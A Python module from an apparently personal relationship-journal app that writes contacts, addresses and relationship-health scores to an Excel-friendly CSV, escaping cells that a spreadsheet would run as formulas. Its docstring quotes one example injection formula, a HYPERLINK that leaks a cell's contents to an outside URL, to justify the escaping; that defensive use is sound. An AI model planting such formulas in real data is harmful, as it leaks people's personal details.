"""A spreadsheet of everyone, with the health figures next to each name.

UTF-8 with a BOM so that Excel shows accents and non-Latin names correctly, and one
row per person with several emails or phones joined by '; '.

A spreadsheet runs a cell that starts with '=', '+', '-', '@', a tab or a carriage
return as a formula — and names, organisations and notes come from imported cards,
which anyone can write (`=HYPERLINK("http://…?leak="&B3, …)`). Such a cell gets a
leading apostrophe, as OWASP recommends: the spreadsheet shows the text as it is.
"""

from __future__ import annotations

import csv
import io
import os
from collections.abc import Iterable

from relationship_journal.exchange.atomic import write_atomically
from relationship_journal.exchange.spreadsheet_cells import neutralise
from relationship_journal.health.outputs import ContactHealth
from relationship_journal.health.windows import balance_figure
from relationship_journal.journal.records import ContactDetail

COMPONENTS = ("recency", "frequency", "consistency", "depth", "reciprocity", "investment")
COLUMNS = (
    "id", "name", "given_name", "family_name", "nickname", "organisation", "role", "emails",
    "phones", "urls", "birthday", "tags", "circle", "cadence_days", "last_interaction", "health",
    "band", *COMPONENTS, "trust", "giving_balance", "classification", "fade_date", "how_met", "met_on", "notes",
    "uid",
)
# Each address in its parts, numbered, after the columns above (as many groups as anyone needs).
ADDRESS_COLUMNS = ("label", "street", "po box", "city", "region", "postcode", "country")


def _address_cells(contact: ContactDetail, groups: int) -> list[str]:
    cells: list[str] = []
    for number in range(groups):
        a = contact.addresses[number] if number < len(contact.addresses) else None
        cells += [
            (a.label or "") if a else "", a.street if a else "", a.po_box if a else "", a.city if a else "",
            a.region if a else "", a.postcode if a else "", a.country if a else "",
        ]
    return cells


def header(groups: int) -> list[str]:
    return [*COLUMNS, *(f"address {n} {part}" for n in range(1, groups + 1) for part in ADDRESS_COLUMNS)]


def _figure(value: float | None) -> str:
    return "" if value is None else f"{value:.0f}"


def rows(
    contacts: Iterable[ContactDetail], health: dict[int, ContactHealth], groups: int = 0
) -> list[list[str]]:
    table = []
    for c in contacts:
        h = health.get(c.id)
        parts = {p.name: p.score for p in h.components} if h else {}
        table.append([
            str(c.id), c.display_name, c.given_name or "", c.family_name or "", c.nickname or "",
            c.organisation or "", c.role or "",
            "; ".join(e.value for e in c.emails),
            "; ".join(p.value for p in c.phones),
            "; ".join(u.value for u in c.urls),
            c.birthday.iso() if c.birthday else "",
            "; ".join(c.tags),
            str(c.circle),
            str(h.cadence_days) if h else (str(c.cadence_days) if c.cadence_days else ""),
            h.last_interaction.isoformat() if h and h.last_interaction else "",
            "" if h is None or h.display_score is None else str(h.display_score),
            h.band if h else "",
            *(_figure(parts.get(name)) if h and h.score is not None else "" for name in COMPONENTS),
            _figure(h.trust) if h else "",
            balance_figure(h.giving_balance).lstrip("+") if h else "",  # a plain number; lately: health.windows
            h.classification if h else "",
            h.fade_date.isoformat() if h and h.fade_date else "",
            c.how_met or "",
            c.met_on.isoformat() if c.met_on else "",
            c.notes or "",
            c.uid or "",
            *_address_cells(c, groups),
        ])
    return table


def write_csv(
    contacts: Iterable[ContactDetail],
    health: dict[int, ContactHealth],
    path: str | os.PathLike[str],
) -> int:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    people = list(contacts)
    groups = max([1, *(len(c.addresses) for c in people)])
    writer.writerow(header(groups))
    table = rows(people, health, groups)
    writer.writerows([neutralise(cell) for cell in row] for row in table)
    write_atomically(path, buffer.getvalue().encode("utf-8-sig"))
    return len(table)
